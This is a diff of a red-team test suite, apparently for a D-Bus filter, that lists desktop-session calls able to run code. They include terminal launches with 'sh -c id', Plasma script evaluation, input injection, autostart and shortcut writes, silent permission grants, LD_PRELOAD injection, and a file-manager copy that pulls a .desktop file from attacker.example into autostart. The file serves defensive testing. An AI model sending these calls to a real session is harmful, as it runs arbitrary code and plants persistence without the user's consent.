@@ -118,7 +118,6 @@ const direct: Attack[] = [
       'new_tab_cmdline',
       [{ execute: 'sh -c id' }],
     ),
-    todo: EXEC('terminal command line from the caller'),
   },
   {
     what: 'Terminator new_window_cmdline (the same in a new window)',
@@ -131,7 +130,6 @@ const direct: Attack[] = [
       'new_window_cmdline',
       [{ execute: 'sh -c id' }],
     ),
-    todo: EXEC('terminal command line from the caller'),
   },
   {
     what: 'xfce4-terminal Launch(uid, display, argv) with "-x cmd"',
@@ -141,7 +139,6 @@ const direct: Attack[] = [
       { text: ':0' },
       [{ text: 'xfce4-terminal' }, { text: '-x' }, { text: 'sh' }, { text: '-c' }, { text: 'id' }],
     ]),
-    todo: EXEC('the argv is an xfce4-terminal command line; -x runs a program'),
   },
   {
     what: 'GApplication CommandLine to Tilix with "-e cmd" (issue 12 example)',
@@ -151,7 +148,6 @@ const direct: Attack[] = [
       [{ text: 'tilix' }, { text: '-e' }, { text: 'sh -c id' }],
       {},
     ]),
-    todo: EXEC('a GApplication command line is a program invocation'),
   },
   {
     what: 'GApplication CommandLine to GNOME Console with "-e cmd"',
@@ -161,7 +157,6 @@ const direct: Attack[] = [
       [{ text: 'kgx' }, { text: '-e' }, { text: 'sh -c id' }],
       {},
     ]),
-    todo: EXEC('a GApplication command line is a program invocation'),
   },
   {
     what: 'Plasma evaluateScript runs desktop scripting JS (issue 12 example)',
@@ -169,13 +164,11 @@ const direct: Attack[] = [
     req: call('session', 'org.kde.plasmashell', '/PlasmaShell', 'org.kde.PlasmaShell', 'evaluateScript', [
       'print(1)',
     ]),
-    todo: EXEC('Plasma scripting writes any config file (shortcuts, autostart) and so runs code'),
   },
   {
     what: 'KWin Script.run re-runs a loaded KWin script',
     ref: 'org.kde.kwin.Script (stop run) in libkwin.so.5 (Debian 12)',
     req: call('session', 'org.kde.KWin', '/Scripting/Script0', 'org.kde.kwin.Script', 'run'),
-    todo: EXEC('KWin scripting is curated only on org.kde.kwin.Scripting, not on the per-script objects'),
   },
 ];
 
@@ -213,7 +206,6 @@ const inputInjection: Attack[] = [
     what: `Mutter ${iface}.${member}: types and clicks as the user, no dialog`,
     ref: 'mutter src/org.gnome.Mutter.RemoteDesktop.xml; names in libmutter-11.so.0 (Debian 12 GNOME 43)',
     req: call('session', 'org.gnome.Mutter.RemoteDesktop', path, iface, member, [...args]),
-    todo: EXEC('input injection into the desktop (type a command into any window)'),
   })),
   ...(
     [
@@ -240,7 +232,6 @@ const inputInjection: Attack[] = [
       member,
       [...args],
     ),
-    todo: EXEC('org.freedesktop.impl.portal.* are backends only the frontend may call (issue 12 §4)'),
   })),
   {
     what: 'KWin EIS connectToEIS(keyboard|pointer) hands out an input-emulation socket',
@@ -253,7 +244,6 @@ const inputInjection: Attack[] = [
       'connectToEIS',
       [3],
     ),
-    todo: EXEC('input injection into a Plasma 6 session (the reply carries the fd)'),
   },
 ];
 
@@ -264,7 +254,6 @@ const codeLater: Attack[] = [
     req: call('session', 'ca.desrt.dconf', '/ca/desrt/dconf/Writer/user', 'ca.desrt.dconf.Writer', 'Change', [
       [0],
     ]),
-    todo: EXEC('configuration that runs a command later (GNOME, MATE, Cinnamon, Budgie all read dconf)'),
   },
   {
     what: 'Xfconf SetProperty xfce4-keyboard-shortcuts /commands/custom/<Super>t = "sh -c …"',
@@ -274,7 +263,6 @@ const codeLater: Attack[] = [
       '/commands/custom/<Super>t',
       { signature: 's', value: 'sh -c id' },
     ]),
-    todo: EXEC('XFCE configuration that runs a command on a key press'),
   },
   {
     what: 'portal backend Background.EnableAutostart writes ~/.config/autostart/<app_id>.desktop with Exec=<commandline>',
@@ -287,7 +275,6 @@ const codeLater: Attack[] = [
       'EnableAutostart',
       ['evil', true, ['sh', '-c', 'id'], 0],
     ),
-    todo: EXEC('an autostart entry runs the command at the next login'),
   },
   {
     what: 'portal Background.RequestBackground with autostart + commandline',
@@ -300,7 +287,6 @@ const codeLater: Attack[] = [
       'RequestBackground',
       ['', { autostart: true, commandline: ['sh', '-c', 'id'], reason: 'x' }],
     ),
-    todo: EXEC('asks for an autostart entry with a caller-chosen command line'),
   },
   {
     what: 'permission store SetPermission screenshot=yes for every app: the screenshot dialog never shows again',
@@ -313,7 +299,6 @@ const codeLater: Attack[] = [
       'SetPermission',
       ['screenshot', true, 'screenshot', '', ['yes']],
     ),
-    todo: EXEC('grants a portal permission silently (impl.portal is frontend-only)'),
   },
   {
     what: 'permission store Set: a whole permission entry at once',
@@ -326,7 +311,6 @@ const codeLater: Attack[] = [
       'Set',
       ['devices', true, 'camera', { '': ['yes'] }, { signature: 'b', value: true }],
     ),
-    todo: EXEC('grants portal permissions silently'),
   },
   {
     what: 'Nautilus CopyURIs fetches a remote .desktop file into ~/.config/autostart',
@@ -339,7 +323,6 @@ const codeLater: Attack[] = [
       'CopyURIs',
       [['https://attacker.example/evil.desktop'], 'file:///home/user/.config/autostart', {}],
     ),
-    todo: EXEC('installs an autostart entry through the file manager'),
   },
   {
     what: 'GNOME Shell EnableExtension runs an installed extension inside the shell',
@@ -352,7 +335,6 @@ const codeLater: Attack[] = [
       'EnableExtension',
       ['evil@example.com'],
     ),
-    todo: EXEC('an extension is code in the compositor; enabling one runs it'),
   },
 ];
 
@@ -368,7 +350,6 @@ const environment: Attack[] = [
       'Setenv',
       ['LD_PRELOAD', '/tmp/evil.so'],
     ),
-    todo: EXEC('environment injection into every future app (LD_PRELOAD)'),
   },
   {
     what: 'cinnamon-session Setenv',
@@ -381,7 +362,6 @@ const environment: Attack[] = [
       'Setenv',
       ['LD_PRELOAD', '/tmp/evil.so'],
     ),
-    todo: EXEC('environment injection'),
   },
 ];
 
@@ -407,7 +387,6 @@ const words: Attack[] = (
   what: 'an execution word on an unknown interface',
   ref: 'issue 12 §4 "member names that evaluate, execute, spawn or run a command line or script"',
   req: call('session', 'com.example.Daemon', '/com/example/Daemon', 'com.example.Daemon', member, ['id']),
-  todo: EXEC(`${member} names execution but is not an exact floor name`),
 }));
 
 const refused: Attack[] = [
@@ -626,7 +605,7 @@ const legitimate: Legitimate[] = [
   },
 ];
 
-describe('redteam: code execution — bypasses found (todo until fixed)', () => {
+describe('redteam: code execution — bypasses found by the red team (refused now; todo while a class is open)', () => {
   describe('direct: a command line reaches a service that runs it', () => forbiddenEverywhere(direct));
   describe('input injection into the desktop', () => forbiddenEverywhere(inputInjection));
   describe('later: configuration, autostart entries, permissions', () => forbiddenEverywhere(codeLater));
